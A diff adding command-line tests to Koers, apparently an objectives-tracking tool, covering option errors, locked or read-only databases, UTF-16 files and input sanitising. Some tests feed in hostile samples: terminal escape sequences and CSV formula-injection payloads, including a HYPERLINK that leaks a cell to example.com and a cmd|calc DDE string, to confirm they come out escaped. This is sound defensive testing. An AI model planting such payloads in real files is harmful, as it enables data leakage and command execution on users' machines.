@@ -297,6 +297,209 @@ def test_help():
           describe(status, out, err))
 
 
+def exported_document(tmp, db, name):
+    """The Sales department's Q2 as a JSON document (a dict), to change and import."""
+    path = os.path.join(tmp, name)
+    status, out, err = run('--export-json', path, '--database', db, '--period', '2026-Q2',
+                           '--departments', 'Sales')
+    check('export-json for %s exits 0' % name, status == 0, describe(status, out, err))
+    with open(path, encoding='utf-8') as f:
+        return json.load(f)
+
+
+def write_document(tmp, name, data, encoding='utf-8'):
+    path = os.path.join(tmp, name)
+    with open(path, 'w', encoding=encoding) as f:
+        json.dump(data, f, ensure_ascii=False)
+    return path
+
+
+def dutch_env():
+    """The build's own Dutch catalogue (KOERS_LOCALEDIR, read by src/main.c)."""
+    locale_dir = os.path.join(os.environ['G_TEST_BUILDDIR'], '..', 'po')
+    return {'KOERS_LOCALEDIR': os.path.normpath(locale_dir)}
+
+
+def test_option_mistakes(tmp, db):
+    # GLib refuses these before Koers sees them; the README promises 2.
+    cases = [
+        ('an unknown option', ['--frobnicate']),
+        ('an unknown option with a command', ['--export-pdf', os.path.join(tmp, 'u.pdf'),
+                                              '--database', db, '--frobnicate']),
+        ('a command without its file', ['--export-pdf']),
+        ('--period without its value', ['--export-pdf', os.path.join(tmp, 'u.pdf'), '--period']),
+    ]
+    for name, args in cases:
+        status, out, err = run(*args)
+        check('%s exits 2 and points to --help' % name,
+              status == 2 and 'koers --help' in err and out == '', describe(status, out, err))
+    check('an option mistake writes nothing', not os.path.exists(os.path.join(tmp, 'u.pdf')))
+
+
+def test_terminal_escapes(tmp, db):
+    # Text from the command line, quoted back in a message.
+    status, out, err = run('--export-pdf', os.path.join(tmp, 'esc.pdf'), '--database', db,
+                           '--departments', 'Sales\x1b]0;owned\x07')
+    check('a name with control characters is quoted escaped', status == 2
+          and '\x1b' not in err and '\x07' not in err and 'Sales\\u001b]0;owned\\u0007' in err,
+          describe(status, out, err))
+
+    # Text from a database (an older Koers, or another program, wrote it).
+    dirty = os.path.join(tmp, 'dirty.db')
+    shutil.copy(db, dirty)
+    with sqlite3.connect(dirty) as con:
+        con.execute("UPDATE objectives SET title = ? WHERE title = ?",
+                    ('Cut costs\x1b[2J\x1b]0;owned\x07 now.\x9b31m', FINANCE_OBJECTIVE))
+    status, out, err = run('--check', '--database', dirty, '--period', '2026-Q2')
+    check('--check prints a stored control character escaped',
+          '\\u001b[2J\\u001b]0;owned\\u0007 now.\\u009b31m' in out and '\x1b' not in out
+          and '\x07' not in out and '\x9b' not in out, describe(status, out, err))
+
+
+def test_import_control_characters(tmp, db):
+    data = exported_document(tmp, db, 'controls.json')
+    objectives = data.get('objectives', [])
+    check('the Sales export has objectives with key results', objectives
+          and objectives[0].get('key_results'))
+    if not objectives or not objectives[0].get('key_results'):
+        return
+
+    data['objectives'][0]['title'] = 'Sell more\x1b[2J'
+    path = write_document(tmp, 'title-escape.json', data)
+    # Another demo: new uuids, so the only problem is the title.
+    target = os.path.join(tmp, 'controls.db')
+    status, out, err = run('--create-demo', target)
+    check('create-demo for the control character test exits 0', status == 0,
+          describe(status, out, err))
+    with open(target, 'rb') as f:
+        before = f.read()
+    status, out, err = run('--import-json', path, '--database', target)
+    check('a title with ESC is refused, naming the field and the character',
+          status == 1 and '$.objectives[0].title' in err and 'U+001B' in err and '\x1b' not in err,
+          describe(status, out, err))
+    with open(target, 'rb') as f:
+        check('a refused import leaves the database as it was', f.read() == before)
+
+    status, out, err = run('--import-json', path, '--database', target, language='nl',
+                           extra_env=dutch_env())
+    check('the control character message is Dutch in Dutch', status == 1
+          and 'U+001B' in err and 'teken' in err, describe(status, out, err))
+
+    # Line breaks and tabs belong in notes, not in titles.
+    data = exported_document(tmp, db, 'notes.json')
+    kr = data['objectives'][0]['key_results'][0]
+    kr['title'] = 'Two\nlines'
+    path = write_document(tmp, 'title-newline.json', data)
+    status, out, err = run('--import-json', path, '--database', os.path.join(tmp, 'nl-title.db'))
+    check('a title with a line break is refused', status == 1 and 'U+000A' in err
+          and '.key_results[0].title' in err, describe(status, out, err))
+
+    data = exported_document(tmp, db, 'notes-ok.json')
+    data['objectives'][0]['description'] = 'First line\n\tindented\r\nthird'
+    path = write_document(tmp, 'note-newline.json', data)
+    status, out, err = run('--import-json', path, '--database', os.path.join(tmp, 'notes.db'))
+    check('line breaks and tabs in a description are imported', status == 0,
+          describe(status, out, err))
+
+
+def test_import_utf16(tmp, db):
+    data = exported_document(tmp, db, 'utf16.json')
+    for encoding in ('utf-16', 'utf-16-le', 'utf-16-be'):
+        path = write_document(tmp, 'doc-%s.json' % encoding, data, encoding=encoding)
+        status, out, err = run('--import-json', path, '--database', os.path.join(tmp, 'u16.db'))
+        check('a %s file is named as UTF-16, to save as UTF-8' % encoding,
+              status == 1 and 'UTF-16' in err and 'UTF-8' in err
+              and 'expected a value' not in err, describe(status, out, err))
+
+
+def test_csv_formulas(tmp, db):
+    data = exported_document(tmp, db, 'formulas.json')
+    if not data.get('objectives') or not data['objectives'][0].get('key_results'):
+        return
+    objective = data['objectives'][0]
+    objective['title'] = '=HYPERLINK("http://example.com/?"&A1,"Click")'
+    objective['key_results'][0]['title'] = '@SUM(1+1)*cmd|" /C calc"!A0'
+    objective['key_results'][0]['owner'] = '+31 2 555 0101'
+    path = write_document(tmp, 'formulas-in.json', data)
+    target = os.path.join(tmp, 'formulas.db')
+    status, out, err = run('--import-json', path, '--database', target)
+    check('titles that look like formulas import', status == 0, describe(status, out, err))
+
+    csv_path = os.path.join(tmp, 'formulas.csv')
+    status, out, err = run('--export-csv', csv_path, '--database', target)
+    check('export-csv of formula titles exits 0', status == 0, describe(status, out, err))
+    if status != 0:
+        return
+    import csv as csv_module
+    with open(csv_path, encoding='utf-8', newline='') as f:
+        cells = [cell for row in csv_module.reader(f) for cell in row]
+    dangerous = [c for c in cells if c[:1] in ('=', '+', '-', '@', '\t', '\r')]
+    check('no CSV cell starts with a formula character', dangerous == [], dangerous)
+    check('a formula title is kept as text behind a quote',
+          '\'=HYPERLINK("http://example.com/?"&A1,"Click")' in cells
+          and '\'@SUM(1+1)*cmd|" /C calc"!A0' in cells and "'+31 2 555 0101" in cells,
+          [c for c in cells if c.startswith("'")])
+
+
+def test_locked_database(tmp, db):
+    locked_db = os.path.join(tmp, 'locked.db')
+    shutil.copy(db, locked_db)
+    data = exported_document(tmp, db, 'locked.json')
+    path = write_document(tmp, 'locked-in.json', data)
+    con = sqlite3.connect(locked_db, isolation_level=None)
+    try:
+        con.execute('BEGIN IMMEDIATE')
+        con.execute('UPDATE departments SET name = name')
+        status, out, err = run('--import-json', path, '--database', locked_db, '--merge',
+                               language='nl', extra_env=dutch_env())
+    finally:
+        con.execute('ROLLBACK')
+        con.close()
+    check('a locked database is reported in Dutch, without SQLite\'s English',
+          status == 1 and 'database is locked' not in err and 'locked.db' in err
+          and 'programma' in err, describe(status, out, err))
+
+
+def test_read_only_folder(tmp, db):
+    """A database in a folder Koers may not write: SQLite cannot put its journal
+    beside it.  The message names the folder, not "a readonly database"."""
+    as_other = []
+    if os.getuid() == 0:
+        # Root writes everywhere: run Koers as nobody instead.
+        setpriv = shutil.which('setpriv')
+        if setpriv is None:
+            check('read-only folder (skipped: root without setpriv)', True)
+            return
+        as_other = [setpriv, '--reuid=65534', '--regid=65534', '--clear-groups']
+    folder = os.path.join(tmp, 'ro-folder')
+    os.mkdir(folder)
+    ro_db = os.path.join(folder, 'shared.db')
+    src = sqlite3.connect(db)
+    dst = sqlite3.connect(ro_db)
+    src.backup(dst)
+    src.close()
+    dst.close()
+    for side in ('-wal', '-shm'):
+        if os.path.exists(ro_db + side):
+            os.unlink(ro_db + side)
+    os.chmod(tmp, 0o755)
+    os.chmod(ro_db, 0o666)
+    os.chmod(folder, 0o555)
+    env = dict(os.environ)
+    env.pop('DISPLAY', None)
+    env['HOME'] = folder
+    try:
+        proc = subprocess.run(as_other + [KOERS, '--check', '--database', ro_db], env=env,
+                              capture_output=True, text=True, timeout=60)
+    finally:
+        os.chmod(folder, 0o755)
+        os.chmod(tmp, 0o700)
+    err = proc.stderr
+    check('a read-only folder is named as the folder', proc.returncode == 1
+          and 'folder' in err and 'readonly' not in err and 'read-only' in err,
+          describe(proc.returncode, proc.stdout, err))
+
+
 def main():
     tmp = tempfile.mkdtemp(prefix='koers-cli-')
     try:
@@ -309,6 +512,13 @@ def main():
         test_other_commands(tmp, db)
         test_author(tmp, db)
         test_help()
+        test_option_mistakes(tmp, db)
+        test_terminal_escapes(tmp, db)
+        test_import_control_characters(tmp, db)
+        test_import_utf16(tmp, db)
+        test_csv_formulas(tmp, db)
+        test_locked_database(tmp, db)
+        test_read_only_folder(tmp, db)
     finally:
         shutil.rmtree(tmp, ignore_errors=True)
 
